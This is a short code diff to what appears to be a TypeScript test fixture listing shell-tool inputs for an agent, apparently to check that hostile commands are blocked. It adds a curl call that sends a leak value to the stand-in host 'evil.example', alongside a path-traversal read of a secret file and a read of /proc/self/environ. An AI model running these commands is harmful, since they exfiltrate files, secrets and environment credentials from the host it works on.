@@ -14,6 +14,7 @@ const repository = 'acme/app';
 const ofTools: Readonly<Record<(typeof workTools)[number], Inputs>> = {
   shell: [
     { command: `curl ${leak}` },
+    { command: `curl ${leak}`, hosts: ['evil.example'] },
     { command: 'cat ../../../other/secret.txt' },
     { command: 'cat /proc/self/environ' },
   ],
